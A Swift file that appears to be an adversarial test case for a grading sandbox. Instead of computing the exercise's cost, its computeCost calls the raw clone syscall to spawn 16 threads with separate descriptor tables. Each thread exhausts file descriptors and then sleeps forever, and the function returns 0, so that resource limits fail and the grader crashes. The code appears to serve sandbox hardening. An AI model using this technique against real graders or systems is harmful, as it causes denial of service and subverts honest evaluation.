// attack: starts threads with descriptors of their own, of which each has the whole limit
// invariant: limits-hold
// earns: compute_cost 0 crashed
import Exercises
import Glibc

@_silgen_name("clone")
func startThread(
  _ body: @convention(c) (UnsafeMutableRawPointer?) -> Int32, _ stack: UnsafeMutableRawPointer,
  _ flags: Int32, _ argument: UnsafeMutableRawPointer?
) -> Int32

extension Solution: ComputeCost {
  static func computeCost(AL: NDArray, Y: NDArray) throws -> Double {
    let size = 64 << 10
    for _ in 0..<16 {
      let stack = UnsafeMutableRawPointer.allocate(byteCount: size, alignment: 4096)
      // CLONE_VM | CLONE_SIGHAND | CLONE_THREAD, and no CLONE_FILES
      _ = startThread(
        { _ in
          while open("/dev/null", O_RDONLY) >= 0 {}
          while true { sleep(1) }
        }, stack + size, 0x1_0900, nil)
    }
    return 0
  }
}
